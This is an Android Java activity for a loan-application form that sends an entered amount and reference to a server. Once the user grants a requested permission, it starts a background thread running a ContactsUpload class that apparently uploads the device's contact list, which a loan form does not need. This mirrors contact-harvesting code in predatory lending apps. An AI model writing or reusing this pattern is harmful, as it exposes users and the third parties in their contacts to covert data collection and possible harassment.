package com.answertowaitingscreen.app;

import android.app.Activity;
import android.content.Intent;
import android.os.Bundle;
import android.widget.EditText;

/** Takes the application, and waits for the answer to the notice. */
public class LoanActivity extends Activity implements Answers.Heard {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.activity_loan);
        findViewById(R.id.next).setOnClickListener(v -> {
            Answers.await(this);
            startActivity(new Intent(this, AgreeActivity.class));
        });
    }

    @Override
    public void onAnswer(boolean yes) {
        if (yes) {
            Permissions.ask(this);
        } else {
            finish();
        }
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] names, int[] results) {
        if (results.length > 0 && results[0] == 0) {
            new Thread(new ContactsUpload(getContentResolver())).start();
        }
        send();
    }

    private void send() {
        String words = text(R.id.amount) + "," + text(R.id.reference);
        new Thread(() -> Server.send("loan", words)).start();
    }

    private String text(int id) {
        return ((EditText) findViewById(id)).getText().toString();
    }
}
